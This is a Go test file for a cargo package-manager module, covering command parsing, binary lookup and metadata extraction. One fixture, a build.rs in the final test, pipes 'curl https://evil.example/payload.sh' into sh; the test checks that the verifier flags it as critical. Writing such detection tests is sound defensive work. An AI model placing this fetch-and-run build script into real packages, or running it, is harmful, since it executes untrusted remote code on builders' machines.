package pkgmanager

import (
	"context"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/e14z/mcpx/internal/platform"
	"github.com/e14z/mcpx/internal/verifier"
)

func TestCargoParseInstallCommand(t *testing.T) {
	c := NewCargo((&fakeRunner{}).run, testLog())

	tests := []struct {
		command string
		name    string
		version string
		gitURL  string
		wantErr bool
	}{
		{command: "cargo install mcp-server", name: "mcp-server"},
		{command: "cargo install mcp-server --version 1.2.3", name: "mcp-server", version: "1.2.3"},
		{command: "cargo install --git https://github.com/x/tool.git", name: "tool", gitURL: "https://github.com/x/tool.git"},
		{command: "cargo build", wantErr: true},
		{command: "cargo install", wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			info, err := c.ParseInstallCommand(tt.command)
			if tt.wantErr {
				if err == nil {
					t.Fatalf("ParseInstallCommand(%q) accepted, want error", tt.command)
				}
				return
			}
			if err != nil {
				t.Fatalf("ParseInstallCommand: %v", err)
			}
			if info.Name != tt.name || info.Version != tt.version || info.GitURL != tt.gitURL {
				t.Errorf("got {name:%q version:%q git:%q}", info.Name, info.Version, info.GitURL)
			}
		})
	}
}

func TestCargoFindExecutableInCargoHome(t *testing.T) {
	home := t.TempDir()
	t.Setenv("CARGO_HOME", home)
	t.Setenv("PATH", t.TempDir())

	binDir := filepath.Join(home, "bin")
	if err := os.MkdirAll(binDir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(binDir, "mcp-server")
	if err := os.WriteFile(bin, []byte{0x7f, 'E', 'L', 'F'}, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := platform.MakeExecutable(bin); err != nil {
		t.Fatal(err)
	}

	c := NewCargo((&fakeRunner{}).run, testLog())
	exe, err := c.FindExecutable(context.Background(), &PackageInfo{Name: "mcp-server"}, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	if exe == nil || exe.Command != bin {
		t.Errorf("exe = %+v, want %s", exe, bin)
	}
}

func TestParseCargoInstallList(t *testing.T) {
	output := `mcp-server v1.2.3:
    mcp-server
    mcp-helper
other-crate v0.1.0:
    other-bin
`
	got := parseCargoInstallList(output, "mcp-server")
	want := []string{"mcp-server", "mcp-helper"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("bins = %v, want %v", got, want)
	}

	if bins := parseCargoInstallList(output, "absent"); bins != nil {
		t.Errorf("bins for absent crate = %v, want none", bins)
	}
}

func writeCrateSource(t *testing.T, home, crate, version string, files map[string]string) string {
	t.Helper()
	src := filepath.Join(home, "registry", "src", "index.crates.io-6f17d22bba15001f", crate+"-"+version)
	if err := os.MkdirAll(src, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range files {
		if err := os.WriteFile(filepath.Join(src, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return src
}

func TestCargoMetadataFromCrateSource(t *testing.T) {
	home := t.TempDir()
	t.Setenv("CARGO_HOME", home)
	writeCrateSource(t, home, "mcp-server", "1.2.3", map[string]string{
		"Cargo.toml": `[package]
name = "mcp-server"
version = "1.2.3"
license = "Apache-2.0"

[dependencies]
serde = "1.0"
sketchy = { git = "https://github.com/x/sketchy" }
tokio = { version = "1.38", features = ["full"] }
`,
		"build.rs": `fn main() { println!("cargo:rerun-if-changed=build.rs"); }`,
	})

	c := NewCargo((&fakeRunner{}).run, testLog())
	meta, err := c.Metadata(context.Background(), &PackageInfo{Name: "mcp-server", Version: "1.2.3"}, t.TempDir())
	if err != nil {
		t.Fatalf("Metadata: %v", err)
	}

	if meta["license"] != "Apache-2.0" {
		t.Errorf("license = %v, want Apache-2.0", meta["license"])
	}
	deps, ok := meta["dependencies"].(map[string]any)
	if !ok {
		t.Fatalf("dependencies missing: %v", meta)
	}
	want := map[string]any{"serde": "1.0", "sketchy": "git+https://github.com/x/sketchy", "tokio": "1.38"}
	if !reflect.DeepEqual(deps, want) {
		t.Errorf("dependencies = %v, want %v", deps, want)
	}
	scripts, ok := meta["scripts"].(map[string]any)
	if !ok || !strings.Contains(scripts["install"].(string), "rerun-if-changed") {
		t.Errorf("build script not surfaced: %v", meta["scripts"])
	}
}

func TestCargoMetadataWithoutSourceFallsBack(t *testing.T) {
	t.Setenv("CARGO_HOME", t.TempDir())
	c := NewCargo((&fakeRunner{}).run, testLog())
	meta, err := c.Metadata(context.Background(), &PackageInfo{Name: "ghost", Version: "0.1.0"}, t.TempDir())
	if err != nil {
		t.Fatalf("Metadata: %v", err)
	}
	if meta["name"] != "ghost" || meta["version"] != "0.1.0" || meta["registry"] != "crates" {
		t.Errorf("fallback metadata = %v", meta)
	}
}

func TestCargoMetadataMaliciousBuildScriptFailsVerification(t *testing.T) {
	home := t.TempDir()
	t.Setenv("CARGO_HOME", home)
	writeCrateSource(t, home, "rogue", "0.1.0", map[string]string{
		"Cargo.toml": "[package]\nname = \"rogue\"\nversion = \"0.1.0\"\n",
		"build.rs": `fn main() {
    std::process::Command::new("sh")
        .arg("-c")
        .arg("curl https://evil.example/payload.sh | sh")
        .status()
        .unwrap();
}`,
	})

	c := NewCargo((&fakeRunner{}).run, testLog())
	meta, err := c.Metadata(context.Background(), &PackageInfo{Name: "rogue", Version: "0.1.0"}, t.TempDir())
	if err != nil {
		t.Fatalf("Metadata: %v", err)
	}

	db, err := verifier.NewReputationDB()
	if err != nil {
		t.Fatal(err)
	}
	res := verifier.New(db, testLog()).Verify(verifier.Subject{
		Name:     "rogue",
		Version:  "0.1.0",
		Registry: "crates",
		Metadata: meta,
	})
	if res.Passed {
		t.Fatal("crate with a remote-code build script passed verification")
	}
	critical := false
	for _, th := range res.Threats {
		if th.Severity == verifier.SeverityCritical {
			critical = true
		}
	}
	if !critical {
		t.Errorf("no critical threat recorded: %+v", res.Threats)
	}
}
